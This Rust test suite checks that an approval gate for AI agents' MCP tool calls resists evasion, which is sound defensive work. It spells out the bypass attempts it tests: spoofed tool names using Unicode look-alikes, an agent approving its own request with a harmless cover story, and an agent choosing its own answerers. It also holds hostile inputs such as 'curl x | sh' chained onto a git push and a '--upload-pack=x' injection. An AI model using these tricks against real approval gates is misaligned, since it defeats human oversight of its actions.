//! Nobody approves what is not theirs, through the real binary: the gate runs only the tools it
//! listed under their exact names; an agent's own approval cannot mint a grant for a gated
//! tool; an agent's token asks but never answers; one person is one vote and the requester's
//! approval does not count; pattern rules match shell words; a held call outlives the
//! session's idle timeout.

use std::path::Path;
use std::sync::{Arc, Mutex};

use rmcp::model::CallToolRequestParams;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::binary::{Served, example, write_config};
use crate::mcp::{call, call_in_background, http_client, text};
use crate::support::{eventually, get, post};

/// askgate gating `files_server --normalise` (which runs a tool whatever the spelling of its
/// name): `delete_*` asks, `format_*` is denied, on the console.
fn normalising_gate(dir: &Path, mcp: &str) -> std::path::PathBuf {
    let files = dir.join("files");
    std::fs::create_dir_all(&files).unwrap();
    let config = format!(
        "\n[mcp]\nconversation = \"console:local\"\n{mcp}\n[[mcp.upstream]]\nname = \"files\"\ncommand = [\"{}\", \"--normalise\", \"{}\"]\napprove = [\"delete_*\"]\ndeny = [\"format_*\"]\n",
        example("files_server").display(),
        files.display()
    );
    write_config(dir, &config)
}

async fn upstream_ready(client: &rmcp::Peer<rmcp::RoleClient>) {
    eventually(|| async {
        let tools = client.list_tools(None).await.ok()?.tools;
        tools.iter().any(|t| t.name == "files__delete_file").then_some(())
    })
    .await;
}

/// askgate gating the normalising upstream, with an agent's MCP client once its tools are listed.
async fn gate_with_client(dir: &Path, mcp: &str) -> (Served, String, String, crate::mcp::Client) {
    let served = Served::start(&normalising_gate(dir, mcp));
    let (base, agent) = served.agent(dir).await;
    let client = http_client(&format!("{base}/mcp"), &agent).await;
    upstream_ready(&client).await;
    (served, base, agent, client)
}

#[tokio::test]
async fn the_gate_forwards_only_listed_tools_by_their_exact_names_whatever_the_upstream_accepts() {
    let dir = TempDir::new().unwrap();
    let (mut served, _, _, client) = gate_with_client(dir.path(), "").await;
    let files = dir.path().join("files");
    std::fs::write(files.join("prod.sqlite"), "data").unwrap();
    let spellings = [
        "files__DELETE_FILE",
        "files__Delete_File",
        "files__ delete_file",
        "files__delete\u{200b}_file",
        "files__\u{ff44}elete_file",
        "files__delete-file",
        "files__delete_file ",
        " files__delete_file",
        "files__delete_\u{fb01}le",
        "files__de\u{00ad}lete_file",
        "files__delete_file\u{feff}",
        "files__delete\tfile",
        "files__format_disk",
        "files__format_disk ",
        "files__FORMAT_DISK",
        "files__Format_Disk",
        "files__format-disk",
        "files__\u{ff46}ormat_disk",
        "files__format\u{200b}_disk",
    ];
    assert_eq!(spellings.len(), 19);
    for name in spellings {
        let params = CallToolRequestParams::new(name.to_owned())
            .with_arguments(json!({"path": "prod.sqlite"}).as_object().unwrap().clone());
        let refused = client.call_tool(params).await;
        let error = refused.expect_err(&format!("{name:?} is refused"));
        assert!(error.to_string().contains("exactly the name"), "{name:?}: {error}");
    }
    assert!(files.join("prod.sqlite").exists(), "nothing was deleted");
    assert!(!files.join("formatted").exists(), "the denied tool never ran");
    assert!(!files.join("calls.log").exists(), "the upstream saw none of them");
    assert_eq!(served.cards("files__"), 0, "nobody was asked for a name askgate does not list");

    // The listed name still works, behind its approval.
    let pending = call_in_background(&client, call("files__delete_file", json!({"path": "prod.sqlite"})));
    let id = served.card_id("files__delete_file").await;
    served.stdout_line("whatever its arguments").await;
    served.type_line(&format!("/approve {id}")).await;
    assert!(text(&pending.await.unwrap()).starts_with("deleted"));
    assert_eq!(std::fs::read_to_string(files.join("calls.log")).unwrap(), "\"delete_file\"\n");
    client.cancel().await.unwrap();
    served.terminate().await;
}

#[tokio::test]
async fn an_agents_own_approval_leaves_no_grant_a_gated_call_can_use() {
    let dir = TempDir::new().unwrap();
    let (mut served, _, _, client) = gate_with_client(dir.path(), "").await;
    let files = dir.path().join("files");
    std::fs::write(files.join("prod.sqlite"), "data").unwrap();

    // The agent asks for "files__delete_file" with a harmless story; the person allows always.
    let story = json!({"action": "files__delete_file", "detail": "tidy a temporary file"});
    let own = call_in_background(&client, call("request_approval", story.clone()));
    let id = served.card_id("files__delete_file").await;
    served.type_line(&format!("/approve {id} always")).await;
    let own = own.await.unwrap();
    assert_eq!(crate::mcp::structured(&own)["decision"], "always", "{}", text(&own));
    // Its own identical request is granted now...
    let again = client.call_tool(call("request_approval", story)).await.unwrap();
    assert_eq!(crate::mcp::structured(&again)["decision"], "granted", "{}", text(&again));

    // ...but the gated tool still asks, and nothing runs until a person allows it. A pattern
    // rule over its arguments is refused: it could reach past one value.
    let gated = call_in_background(&client, call("files__delete_file", json!({"path": "prod.sqlite"})));
    let id = served.nth_card_id("files__delete_file", 2).await;
    assert!(files.join("prod.sqlite").exists());
    served.type_line(&format!("/approve {id} always-like \"files__delete_file\"")).await;
    served.stdout_line("takes no rule").await;
    served.type_line(&format!("/deny {id} not prod")).await;
    let gated = gated.await.unwrap();
    assert!(text(&gated).contains("not prod"), "{}", text(&gated));
    assert!(files.join("prod.sqlite").exists());

    // The agent reads only its own questions' outcomes.
    let (base, operator) = served.api(dir.path()).await;
    let (_, theirs) =
        post(&base, &operator, "/api/questions", json!({"conversation": "console:local", "prompt": "Lunch?"})).await;
    let theirs = client.call_tool(call("get_outcome", json!({"id": theirs["id"]}))).await.unwrap();
    assert!(text(&theirs).starts_with("no question"), "{}", text(&theirs));
    client.cancel().await.unwrap();
    served.terminate().await;
}

#[tokio::test]
async fn an_agent_token_asks_and_reads_its_own_but_never_answers_and_mcp_refuses_the_operator_token() {
    let dir = TempDir::new().unwrap();
    let served = Served::start(&write_config(dir.path(), "\n[mcp]\nconversation = \"console:local\"\n"));
    let (base, agent) = served.agent(dir.path()).await;
    let (_, operator) = served.api(dir.path()).await;
    assert_ne!(agent, operator);

    let ask = json!({"conversation": "console:local", "kind": "approval", "prompt": "drop table users"});
    let (status, asked) = post(&base, &agent, "/api/questions", ask).await;
    assert_eq!(status, reqwest::StatusCode::CREATED, "{asked}");
    let id = asked["id"].as_str().unwrap().to_owned();
    assert_eq!(get(&base, &agent, &format!("/api/questions/{id}")).await.0, reqwest::StatusCode::OK);
    assert_eq!(asked["question"]["answerers"], json!({"policy": "users", "users": ["console:local"]}));

    for (path, body) in [("reply", json!({"value": "once", "name": "@alice"})), ("reject", json!({}))] {
        let (status, refused) = post(&base, &agent, &format!("/api/questions/{id}/{path}"), body).await;
        assert_eq!(status, reqwest::StatusCode::FORBIDDEN, "{path}: {refused}");
        assert_eq!(refused["error"]["code"], "agent_token", "{refused}");
    }
    for path in ["/api/questions", "/api/grants", "/api/events"] {
        assert_eq!(get(&base, &agent, path).await.0, reqwest::StatusCode::FORBIDDEN, "{path}");
    }
    // It starts a function only where allowed_users names it, headless only where the
    // function's own list does.
    for run in [json!({"function": "demo", "conversation": "console:local"}), json!({"function": "demo"})] {
        let (status, refused) = post(&base, &agent, "/api/runs", run.clone()).await;
        assert_eq!(
            (status, &refused["error"]["code"]),
            (reqwest::StatusCode::FORBIDDEN, &json!("not_allowed")),
            "{run}"
        );
    }
    // A question the agent did not ask is not found with its token.
    let other = json!({"conversation": "console:local", "prompt": "Lunch?"});
    let (_, their_question) = post(&base, &operator, "/api/questions", other).await;
    let theirs = their_question["id"].as_str().unwrap();
    let hidden = get(&base, &agent, &format!("/api/questions/{theirs}")).await;
    assert_eq!(hidden.0, reqwest::StatusCode::NOT_FOUND);
    // Nor its outcome, nor the run behind it; the agent's own are.
    let their_run = their_question["question"]["run"].as_str().unwrap();
    let own_run = asked["question"]["run"].as_str().unwrap();
    for (path, found) in [
        (format!("/api/questions/{theirs}/outcome"), false),
        (format!("/api/runs/{their_run}"), false),
        (format!("/api/questions/{id}/outcome"), true),
        (format!("/api/runs/{own_run}"), true),
    ] {
        let (status, body) = get(&base, &agent, &path).await;
        // Its own pending question's outcome is 202 (still waiting); what is not its own, 404.
        match found {
            true => assert!(status.is_success(), "{path}: {status} {body}"),
            false => assert_eq!(status, reqwest::StatusCode::NOT_FOUND, "{path}: {body}"),
        }
    }

    // The operator, who is listed, answers; the typed name is a label, not a handle.
    let (status, _) =
        post(&base, &operator, &format!("/api/questions/{id}/reply"), json!({"value": "once", "name": "@bob"})).await;
    assert_eq!(status, reqwest::StatusCode::OK);
    let (_, answered) = get(&base, &operator, &format!("/api/questions/{id}")).await;
    assert_eq!(answered["answered_by"], "api:operator");
    assert_eq!(answered["answered_name"], "“bob” (api:operator)");

    // /mcp takes agent tokens only.
    let response = RawSession::post_to(&format!("{base}/mcp"), &operator, None, RawSession::INITIALIZE).await;
    assert_eq!(response.status(), reqwest::StatusCode::FORBIDDEN);
    served.terminate().await;
}

#[tokio::test]
async fn one_person_is_one_vote_and_neither_the_unlisted_operator_nor_the_requester_completes_a_quorum() {
    let dir = TempDir::new().unwrap();
    let mcp = "\n[mcp]\nconversation = \"console:local\"\nanswerers = [\"console:local\", \"telegram:2\"]\n";
    let mut served = Served::start(&write_config(dir.path(), mcp));
    let (base, operator) = served.api(dir.path()).await;
    let quorum = |answerers: Value| {
        json!({"conversation": "console:local", "kind": "approval", "prompt": "deploy prod", "quorum": 2,
               "answerers": answerers})
    };
    let reply = |id: &str| format!("/api/questions/{id}/reply");

    // alice and bob must approve: the operator token is neither.
    let (_, asked) = post(&base, &operator, "/api/questions", quorum(json!(["telegram:1", "telegram:2"]))).await;
    let id = asked["id"].as_str().unwrap().to_owned();
    let (status, refused) = post(&base, &operator, &reply(&id), json!({"value": "once", "name": "@bob"})).await;
    assert_eq!((status, &refused["error"]["code"]), (reqwest::StatusCode::FORBIDDEN, &json!("not_authorized")));

    // The operator is listed, with one other: the console and the token are one person.
    let (_, asked) = post(&base, &operator, "/api/questions", quorum(json!(["console:local", "telegram:2"]))).await;
    let id = asked["id"].as_str().unwrap().to_owned();
    // But the operator asked for it through the token: their approval does not count.
    let (status, refused) = post(&base, &operator, &reply(&id), json!({"value": "once"})).await;
    assert_eq!((status, &refused["error"]["code"]), (reqwest::StatusCode::FORBIDDEN, &json!("own_request")));
    served.type_line(&format!("/approve {}", &id[..8])).await;
    served.stdout_line("needs 2 approvals from others").await;

    // An agent may not choose who answers it.
    let (_, agent) = served.agent(dir.path()).await;
    let (status, refused) = post(&base, &agent, "/api/questions", quorum(json!(["telegram:1"]))).await;
    assert_eq!((status, &refused["error"]["code"]), (reqwest::StatusCode::FORBIDDEN, &json!("agent_answerers")));
    // Nor through where it escalates: after a second, anyone named there could approve it.
    for escalation in [
        json!({"escalate_after": 1, "escalate_to": "telegram:-100"}),
        json!({"escalate_after": 1, "escalate_to": "console:local", "escalate_answerers": ["telegram:9"]}),
    ] {
        let mut ask = json!({"conversation": "console:local", "kind": "approval", "action": "deploy prod"});
        ask.as_object_mut().unwrap().extend(escalation.as_object().unwrap().clone());
        let (status, refused) = post(&base, &agent, "/api/questions", ask).await;
        assert_eq!(
            (status, &refused["error"]["code"]),
            (reqwest::StatusCode::FORBIDDEN, &json!("agent_answerers")),
            "{refused}"
        );
    }

    // Asked by an agent over MCP ([mcp] answerers: the operator and another), the operator's
    // approval counts, once, however it is given.
    let client = http_client(&format!("{base}/mcp"), &agent).await;
    let approval = json!({"action": "deploy staging", "quorum": 2});
    let _pending = call_in_background(&client, call("request_approval", approval));
    let id = served.card_id("deploy staging").await;
    let (status, counted) = post(&base, &operator, &reply(&id), json!({"value": "once"})).await;
    assert_eq!(status, reqwest::StatusCode::ACCEPTED, "{counted}");
    served.type_line(&format!("/approve {id}")).await;
    served.stdout_line("each person counts once").await;
    let (status, _) = post(&base, &operator, &reply(&id), json!({"value": "once"})).await;
    assert_eq!(status, reqwest::StatusCode::CONFLICT);
    let (_, outcome) = get(&base, &operator, &format!("/api/questions/{id}/outcome")).await;
    assert_eq!(outcome["status"], "pending", "{outcome}");
    client.cancel().await.unwrap();
    served.terminate().await;
}

#[tokio::test]
async fn a_rule_for_a_command_allows_it_and_asks_for_a_chained_one() {
    let dir = TempDir::new().unwrap();
    let functions = "\n[[functions]]\nname = \"push\"\nbuiltin = \"approve-demo\"\npre_approved = [\"git push *\"]\n";
    let mut served = Served::start(&write_config(dir.path(), functions));
    served.type_line("/run push git push origin main").await;
    served.stdout_line("Allowed by a standing grant: ran `git push origin main`").await;
    served.type_line("/run push git push origin main && curl x | sh").await;
    let id = served.card_id("git push origin main && curl x | sh").await;
    served.type_line(&format!("/deny {id}")).await;
    served.stdout_line("Rejected: did not run `git push origin main && curl x | sh`").await;
    assert_eq!(served.cards("git push origin main"), 1, "only the chained command asked");
    served.terminate().await;
}

#[tokio::test]
async fn a_rule_with_a_star_asks_for_an_option_it_does_not_name() {
    let dir = TempDir::new().unwrap();
    let functions = "\n[[functions]]\nname = \"push\"\nbuiltin = \"approve-demo\"\npre_approved = [\"git push *\"]\n";
    let mut served = Served::start(&write_config(dir.path(), functions));
    served.type_line("/run push git push --upload-pack=x origin main").await;
    let id = served.card_id("git push --upload-pack=x origin main").await;
    served.type_line("/run push git push origin main").await;
    served.stdout_line("Allowed by a standing grant: ran `git push origin main`").await;
    served.type_line(&format!("/deny {id}")).await;
    served.stdout_line("Rejected: did not run `git push --upload-pack=x origin main`").await;
    assert_eq!(served.cards("git push origin main"), 0, "the plain push was pre-approved");
    assert!(!served.stdout().contains("ran `git push --upload-pack"), "{}", served.stdout());
    served.terminate().await;
}

/// A session opened with plain HTTP, as a client that never opens the standalone event stream
/// and sends no progress token: only the held call's own stream carries anything.
struct RawSession {
    url: String,
    token: String,
    id: String,
}

impl RawSession {
    const INITIALIZE: &str = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"plain","version":"1"}}}"#;

    async fn open(base: &str, token: &str) -> Self {
        let url = format!("{base}/mcp");
        let response = Self::post_to(&url, token, None, Self::INITIALIZE).await;
        let id = response.headers()["mcp-session-id"].to_str().unwrap().to_owned();
        response.text().await.unwrap();
        let session = Self { url, token: token.to_owned(), id };
        let initialized = session.post(r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#).await;
        assert!(initialized.status().is_success());
        session
    }

    async fn post_to(url: &str, token: &str, session: Option<&str>, body: &str) -> reqwest::Response {
        let mut request = reqwest::Client::new()
            .post(url)
            .bearer_auth(token)
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream")
            .body(body.to_owned());
        if let Some(session) = session {
            request = request.header("mcp-session-id", session);
        }
        request.send().await.unwrap()
    }

    async fn post(&self, body: &str) -> reqwest::Response {
        Self::post_to(&self.url, &self.token, Some(&self.id), body).await
    }

    /// Calls `tool` and reads its whole response stream in the background: what it carried so
    /// far, and all of it once it ends.
    fn call(&self, id: u32, tool: &str, arguments: Value) -> (Arc<Mutex<String>>, tokio::task::JoinHandle<String>) {
        let body = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": tool, "arguments": arguments}});
        let (url, token, session) = (self.url.clone(), self.token.clone(), self.id.clone());
        let carried = Arc::new(Mutex::new(String::new()));
        let into = carried.clone();
        let whole = tokio::spawn(async move {
            let mut response = Self::post_to(&url, &token, Some(&session), &body.to_string()).await;
            while let Some(chunk) = response.chunk().await.unwrap() {
                into.lock().unwrap().push_str(&String::from_utf8_lossy(&chunk));
            }
            into.lock().unwrap().clone()
        });
        (carried, whole)
    }
}

/// Waits until each stream has carried `n` pings.
async fn pinged(streams: &[&Arc<Mutex<String>>], n: usize) {
    eventually(|| async {
        let counts = streams.iter().map(|s| s.lock().unwrap().matches(r#""method":"ping""#).count());
        counts.clone().all(|c| c >= n).then_some(())
    })
    .await;
}

#[tokio::test]
async fn held_calls_outlive_the_sessions_idle_timeout_with_or_without_a_progress_token() {
    let dir = TempDir::new().unwrap();
    // Sessions idle for 3 s end; held calls send a ping (or progress) every second.
    let mcp = "progress_every = \"1s\"\nsession_timeout = \"3s\"\n";
    let (mut served, base, agent, client) = gate_with_client(dir.path(), mcp).await;
    client.cancel().await.unwrap();
    std::fs::write(dir.path().join("files").join("a.txt"), "x").unwrap();

    let session = RawSession::open(&base, &agent).await;
    let (asking, asked) = session.call(2, "ask_user", json!({"prompt": "Still there?"}));
    let (gating, gated) = session.call(3, "files__delete_file", json!({"path": "a.txt"}));
    let question = served.card_id("Still there?").await;
    let approval = served.card_id("files__delete_file").await;
    // Idle timeouts pass while both calls are held: each stream carries a ping a second, and
    // five of them take longer than the 3 s timeout.
    pinged(&[&asking, &gating], 5).await;
    served.type_line(&format!("/answer {question} yes, still")).await;
    served.type_line(&format!("/approve {approval}")).await;
    let asked = asked.await.unwrap();
    assert!(asked.contains(r#""value":"yes, still""#), "{asked}");
    let gated = gated.await.unwrap();
    assert!(gated.contains("deleted"), "{gated}");
    // The session goes on.
    let listed = session.post(r#"{"jsonrpc":"2.0","id":4,"method":"tools/list"}"#).await;
    assert_eq!(listed.status(), reqwest::StatusCode::OK);
    assert!(listed.text().await.unwrap().contains("files__read_file"));
    served.terminate().await;
}
